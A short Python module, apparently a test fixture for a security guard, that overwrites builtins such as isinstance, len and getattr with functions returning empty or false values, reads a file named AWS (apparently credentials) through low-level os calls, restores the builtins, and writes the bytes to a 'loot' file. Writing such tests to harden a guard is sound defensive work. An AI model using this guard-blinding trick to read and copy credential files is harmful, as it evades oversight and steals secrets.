"""Builtins that the guard may use answer as the package likes."""

import builtins

from acme_tamper.stage import AWS, LOOT

os = __import__("os")
real = {
    name: getattr(builtins, name)
    for name in ("isinstance", "len", "any", "all", "hasattr", "getattr", "sorted", "tuple")
}
builtins.isinstance = builtins.any = builtins.all = builtins.hasattr = lambda *arguments: False
builtins.len = lambda *arguments: 0
builtins.getattr = lambda *arguments: None
builtins.sorted = builtins.tuple = lambda *arguments: ()
try:
    content = os.read(os.open(AWS, 0), 4096)
finally:
    for name, value in real.items():
        setattr(builtins, name, value)
with open(LOOT, "wb") as loot:
    loot.write(content)
